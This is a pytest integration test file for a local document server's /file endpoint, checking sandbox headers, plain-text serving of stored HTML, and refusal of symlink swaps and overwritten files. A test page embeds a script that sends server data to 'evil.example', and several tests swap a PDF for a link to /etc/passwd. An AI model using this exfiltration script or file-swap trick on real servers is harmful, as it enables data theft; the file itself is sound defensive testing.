"""``GET /file`` of a real ``citeloom serve`` as a neighbour and a saved web page would use it
(issue 42, cases 1 and 2): the stored PDF is served as it was ingested and nothing else is,
whatever is put at its path since; a stored web page never runs on the server's origin."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from tests.conftest import CITELOOM, EXAMPLES, write_config
from tests.integration.test_serve import QUESTION, REFERENCES, start, stop

pytestmark = pytest.mark.real
PDF = "ardel2023_restored_marshes.pdf"
SANDBOX = "sandbox; default-src 'none'"
SCRIPT = "<script>fetch('/projects').then(r => r.text()).then(t => fetch('//evil.example/?' + t))"
PAGE = f"""<!DOCTYPE html>
<html><head><title>Eelgrass field notes</title>{SCRIPT}</script></head>
<body><h1>Eelgrass field notes</h1>
<p>Eelgrass meadows along the estuary slowed the incoming tide at every transect we walked.</p>
<p>Seedlings planted in spring had rooted by the autumn survey in four plots out of five.</p>
</body></html>
"""
PASSWD = Path("/etc/passwd")


@dataclass
class Served:
    url: str
    papers: Path  # the folder ingested: tmp/papers
    pdf_chunk: str
    html_chunk: str

    def file(self, chunk: str) -> httpx.Response:
        params = {"project": "papers", "chunk_id": chunk}
        return httpx.get(f"{self.url}/file", params=params, timeout=60)


def chunk_of(url: str, question: str, suffix: str) -> str:
    """A chunk id of the stored file ending in ``suffix`` that ``question`` finds."""
    body = {"project": "papers", "query": question, "top_k": 10}
    results = httpx.post(f"{url}/query", json=body, timeout=120).json()["results"]
    return next(r["chunk_id"] for r in results if r["source"].endswith(suffix))


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("file")
    papers = folder / "papers"
    papers.mkdir()
    shutil.copy(EXAMPLES / PDF, papers / PDF)
    (papers / "field_notes.html").write_text(PAGE, encoding="utf-8")
    config = write_config(folder, REFERENCES)
    done = subprocess.run(
        [CITELOOM, "ingest", str(papers), "-p", "papers", "-c", str(config)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    server, url = start(config)
    try:
        yield Served(
            url,
            papers,
            chunk_of(url, QUESTION, ".pdf"),
            chunk_of(url, "eelgrass meadows slowed the tide", ".html"),
        )
    finally:
        assert "Traceback" not in stop(server)


def refused_naming_the_fix(answer: httpx.Response, path: Path) -> None:
    assert answer.status_code == 409, answer.text
    assert answer.headers["content-security-policy"] == SANDBOX
    error = answer.json()["error"]
    assert str(path) in error and "citeloom ingest FOLDER -p papers" in error


def test_the_pdf_is_served_as_ingested_and_sandboxed(served):
    answer = served.file(served.pdf_chunk)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.headers["content-disposition"] == f'inline; filename="{PDF}"'
    assert answer.headers["content-security-policy"] == SANDBOX
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.content == (EXAMPLES / PDF).read_bytes()


def test_a_stored_web_page_is_shown_as_text_that_runs_nothing(served):
    answer = served.file(served.html_chunk)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    assert answer.headers["content-security-policy"] == SANDBOX
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert SCRIPT in answer.text  # the page's own bytes, as text


def test_a_pdf_swapped_for_a_link_to_etc_passwd_is_refused_unread(served):
    paper = served.papers / PDF
    kept = served.papers.parent / "kept.pdf"
    paper.rename(kept)
    paper.symlink_to(PASSWD)
    try:
        answer = served.file(served.pdf_chunk)
        refused_naming_the_fix(answer, paper)
        assert "symbolic link" in answer.json()["error"]
        first = PASSWD.read_text(encoding="utf-8").splitlines()[0]
        assert first not in answer.text
    finally:
        paper.unlink()
        kept.rename(paper)
    assert served.file(served.pdf_chunk).status_code == 200


def test_a_folder_swapped_for_a_link_to_a_copy_is_refused(served):
    papers = served.papers
    real = papers.with_name("papers-real")
    papers.rename(real)
    papers.symlink_to(real, target_is_directory=True)
    try:
        assert (papers / PDF).read_bytes() == (EXAMPLES / PDF).read_bytes()  # the same file
        answer = served.file(served.pdf_chunk)
        refused_naming_the_fix(answer, papers / PDF)
        assert f"the folder {papers} on its path is a symbolic link" in answer.json()["error"]
    finally:
        papers.unlink()
        real.rename(papers)
    assert served.file(served.pdf_chunk).status_code == 200


def test_a_pdf_overwritten_since_ingest_is_refused(served):
    paper = served.papers / PDF
    paper.write_bytes(PASSWD.read_bytes())
    try:
        answer = served.file(served.pdf_chunk)
        refused_naming_the_fix(answer, paper)
        assert "changed since it was ingested" in answer.json()["error"]
        assert PASSWD.read_text(encoding="utf-8").splitlines()[0] not in answer.text
    finally:
        shutil.copy(EXAMPLES / PDF, paper)
    assert served.file(served.pdf_chunk).status_code == 200


def test_a_forged_chunk_id_is_echoed_bounded(served):
    answer = served.file("0" * 60_000)  # as long as a client sends (httpx: 64 KiB a part)
    assert answer.status_code == 400 and "no chunk" in answer.json()["error"]
    assert len(answer.json()["error"]) < 400
